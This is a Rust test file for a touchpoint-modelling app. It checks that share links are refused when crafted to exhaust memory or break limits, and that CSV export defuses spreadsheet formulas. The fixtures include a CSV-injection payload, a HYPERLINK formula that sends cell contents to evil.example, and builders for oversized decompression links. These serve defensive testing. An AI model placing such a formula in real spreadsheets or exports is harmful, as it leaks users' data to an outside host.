//! Hostile links and files: every limit is checked while reading, refused with a typed error,
//! and what `encode_checked` hands out, `decode` opens (issue #13).
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

mod common;

use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use base64::Engine;
use kontaktpunkt_core::domain::limits::{
    MAX_FACTOR_TEXT_BYTES, MAX_LINK_JSON_VALUES, MAX_MODEL_JSON_VALUES,
};
use kontaktpunkt_core::domain::validate::{check_date, model_from_json};
use kontaktpunkt_core::io::csv_io::export_csv;
use kontaktpunkt_core::io::share::{self, ShareError, MAX_FRAGMENT, MAX_INFLATED};
use kontaktpunkt_core::text::share::error_text;
use kontaktpunkt_core::{Action, Lang, Model, ModelError};
use proptest::prelude::*;

/// A `kp1` link of `json`, compressed as the app does.
fn link(json: &str) -> String {
    let deflated = miniz_oxide::deflate::compress_to_vec(json.as_bytes(), 10);
    format!("kp1.{}", URL_SAFE_NO_PAD.encode(deflated))
}

fn invalid(e: ModelError) -> Result<Model, ShareError> {
    Err(ShareError::Invalid(e))
}

/// Finding 1: thousands of references to one long factor text.
pub fn many_references_link(touchpoints: usize, refs: usize) -> String {
    let text = "𝄞".repeat(200); // 800 bytes, the longest factor text there is
    let names: Vec<String> = (0..touchpoints).map(|i| format!("\"t{i}\"")).collect();
    let list = format!("[{}]", vec!["0"; refs].join(","));
    let lists = vec![list; touchpoints].join(",");
    link(&format!(
        "[0,[0],[],[[{}],[],[],[],[],[],[],[],[],[],[],[{lists}]],[\"{text}\"]]",
        names.join(",")
    ))
}

#[test]
fn many_references_to_one_long_factor_are_refused_by_the_text_budget() {
    let fragment = many_references_link(1_000, 200);
    assert!(fragment.len() <= MAX_FRAGMENT, "{}", fragment.len());
    assert_eq!(
        share::decode(&fragment),
        invalid(ModelError::TooMuchText {
            max: MAX_FACTOR_TEXT_BYTES
        })
    );
    // The same link through the app's error words, in both languages.
    let e = share::decode(&fragment).unwrap_err();
    assert!(error_text(&e, Lang::En).contains("too much text"));
    assert!(error_text(&e, Lang::De).contains("zu viel Text"));
}

#[test]
fn a_factor_list_longer_than_the_limit_is_refused_before_it_is_built() {
    assert_eq!(
        share::decode(&many_references_link(1, 201)),
        invalid(ModelError::TooManyItems { max: 200 })
    );
    assert!(share::decode(&many_references_link(1, 200)).is_ok());
}

#[test]
fn a_million_values_are_refused_before_they_are_parsed() {
    let nps = vec!["[]"; 1_000_000].join(",");
    let fragment = link(&format!("[0,[0],[],[],[],[],[],[[{nps}]]]"));
    assert!(fragment.len() <= MAX_FRAGMENT);
    assert_eq!(
        share::decode(&fragment),
        invalid(ModelError::TooManyItems {
            max: MAX_LINK_JSON_VALUES
        })
    );
    let json = format!("[{}]", vec!["0"; MAX_MODEL_JSON_VALUES + 1].join(","));
    assert_eq!(
        model_from_json(&json),
        Err(ModelError::TooManyItems {
            max: MAX_MODEL_JSON_VALUES
        })
    );
}

#[test]
fn implausible_kpis_and_links_are_refused() {
    let nps = ["[\"p\"]"; 2].join(",");
    assert_eq!(
        share::decode(&link(&format!("[0,[0],[],[],[],[],[],[[{nps}]]]"))),
        invalid(ModelError::DuplicatePeriod("p".into()))
    );
    let many: Vec<String> = (0..201).map(|i| format!("[\"p{i}\"]")).collect();
    assert_eq!(
        share::decode(&link(&format!(
            "[0,[0],[],[],[],[],[],[[{}]]]",
            many.join(",")
        ))),
        invalid(ModelError::TooManyItems { max: 200 })
    );
    assert_eq!(
        share::decode(&link("[0,[0],[],[],[],[],[],[[],[[\"q\",5,4]]]]")),
        invalid(ModelError::ReferredExceedsNew {
            referred: 5,
            new_customers: 4
        })
    );
    assert_eq!(
        share::decode(&link("[0,[0],[],[[\"a\"]],[],[],[[2,\"m\",\"\",[1,1]]]]")),
        invalid(ModelError::DuplicateLink {
            measure: 2,
            touchpoint: 1
        })
    );
    let ok = share::decode(&link("[0,[0],[],[[\"a\"]],[],[],[[2,\"m\",\"\",[1]]]]")).unwrap();
    assert_eq!(ok.measures[0].touchpoints, [1]);
}

#[test]
fn dates_must_be_days_of_the_calendar() {
    for bad in [
        "2025-02-31",
        "0000-01-01",
        "2023-02-29",
        "2025-04-31",
        "1900-02-29",
    ] {
        assert!(check_date(bad).is_err(), "{bad}");
    }
    for good in [
        "2024-02-29",
        "2000-02-29",
        "0001-01-01",
        "9999-12-31",
        "2025-04-30",
    ] {
        assert_eq!(check_date(good), Ok(()), "{good}");
    }
    assert_eq!(
        share::decode(&link("[0,[0],[],[],[],[],[],[],[[1,\"2025-02-31\"]]]")),
        invalid(ModelError::InvalidDate("2025-02-31".into()))
    );
}

#[test]
fn bytes_after_the_deflate_stream_are_refused() {
    let json = "[0,[0]]";
    let mut deflated = miniz_oxide::deflate::compress_to_vec(json.as_bytes(), 10);
    let good = format!("kp1.{}", URL_SAFE_NO_PAD.encode(&deflated));
    assert!(share::decode(&good).is_ok());
    deflated.extend_from_slice(b"\0\0\0");
    let bad = format!("kp1.{}", URL_SAFE_NO_PAD.encode(&deflated));
    assert_eq!(share::decode(&bad), Err(ShareError::BadCompression));
}

#[test]
fn cut_off_base64_reads_as_incomplete_as_documented() {
    assert_eq!(share::decode("kp1.a"), Err(ShareError::BadCompression));
    assert_eq!(share::decode("kp1.AB"), Err(ShareError::BadCompression));
    assert_eq!(share::decode("kp1.a="), Err(ShareError::BadBase64));
}

#[test]
fn negative_zero_time_keeps_its_sign_and_json_minus_zero_is_no_integer() {
    let mut m = Model::new(Lang::En);
    m.meta.created = -0.0;
    let back = share::decode(&share::encode(&m)).unwrap();
    assert_eq!(back.meta.created.to_bits(), (-0.0f64).to_bits());
    assert!(matches!(
        share::decode(&link("[-0,[0]]")),
        Err(ShareError::Invalid(ModelError::Malformed(_)))
    ));
}

/// Finding 2: a valid model whose link inflates past the cap.
#[test]
fn encode_checked_refuses_what_decode_would_refuse() {
    let mut m = Model::new(Lang::En);
    let stage = m.stages[0].key.clone();
    let adds = (0..1_100)
        .map(|i| common::new_tp(&format!("T{i}"), &stage))
        .collect();
    m = common::apply(&m, Action::AddTouchpoints(adds));
    for tp in m.touchpoints.iter_mut() {
        tp.description = "x".repeat(4_000);
    }
    let fragment = share::encode(&m);
    assert!(fragment.len() <= MAX_FRAGMENT);
    assert_eq!(
        share::decode(&fragment),
        Err(ShareError::TooLarge { max: MAX_INFLATED })
    );
    assert_eq!(
        share::encode_checked(&m),
        Err(ShareError::TooLarge { max: MAX_INFLATED })
    );
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 10, ..ProptestConfig::default() })]

    /// At the limits: many touchpoints, long descriptions, long factor lists of long texts.
    /// Whatever `encode_checked` hands out, `decode` opens, to the same model.
    #[test]
    fn encode_checked_links_always_decode(
        n in 1usize..1_500, desc in 0usize..=4_000, factors in 0usize..=200,
        factor_len in 1usize..=200, distinct in any::<bool>(),
    ) {
        let mut m = Model::new(Lang::En);
        let stage = m.stages[0].key.clone();
        let adds = (0..n).map(|i| common::new_tp(&format!("T{i}"), &stage)).collect();
        m = common::apply(&m, Action::AddTouchpoints(adds));
        for (i, tp) in m.touchpoints.iter_mut().enumerate() {
            tp.description = if distinct { format!("{i}{}", "d".repeat(desc)) } else { "d".repeat(desc) };
            tp.description.truncate(4_000);
            tp.factors.delight = (0..factors)
                .map(|k| format!("{k}{}", "𝄞".repeat(factor_len - 1)))
                .collect();
        }
        match share::encode_checked(&m) {
            Ok(fragment) => {
                prop_assert!(fragment.len() <= MAX_FRAGMENT);
                prop_assert_eq!(share::decode(&fragment), Ok(m));
            }
            Err(e) => prop_assert!(share::decode(&share::encode(&m)).is_err(), "{e:?}"),
        }
    }
}

/// Finding 3: a link with the last id, then a CSV import. That id is in another copy's block
/// (`domain::ids`); the counter hands out from its own, never an id twice.
#[test]
fn csv_import_never_hands_out_an_id_twice() {
    let base = share::decode(&link("[0,[0],[],[[\"a\"],[4294967294]]]")).unwrap();
    assert_eq!(base.touchpoints[0].id, u64::from(u32::MAX));
    let csv = export_csv(&base, ',');
    let import = common::import_layout(&base, &csv);
    assert!(import.errors.is_empty(), "{:?}", import.errors);
    let mut ids: Vec<_> = import.model.ids().collect();
    let n = ids.len();
    ids.sort_unstable();
    ids.dedup();
    assert_eq!((ids.len(), import.added), (n, 1));
}

#[test]
fn csv_export_neutralises_formulas_and_import_restores_the_names() {
    let names = [
        "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"click\")",
        "+1",
        "-2",
        "@SUM(A1)",
        "'quoted",
        "plain",
    ];
    let mut m = Model::new(Lang::En);
    let stage = m.stages[0].key.clone();
    let adds = names.iter().map(|n| common::new_tp(n, &stage)).collect();
    m = common::apply(&m, Action::AddTouchpoints(adds));
    m.touchpoints[0].factors.okay = vec!["=1+1".into()];
    let csv = export_csv(&m, ',');
    for line in csv.lines().skip(1) {
        let first = line.trim_start_matches('"');
        assert!(!first.starts_with(['=', '+', '-', '@']), "{line}");
    }
    assert!(csv.contains("'=1+1"));
    let import = common::import_layout(&Model::new(Lang::En), &csv);
    assert!(import.errors.is_empty(), "{:?}", import.errors);
    let back: Vec<&str> = import
        .model
        .touchpoints
        .iter()
        .map(|t| t.name.as_str())
        .collect();
    assert_eq!(back, names);
    assert_eq!(import.model.touchpoints[0].factors.okay, ["=1+1"]);
}
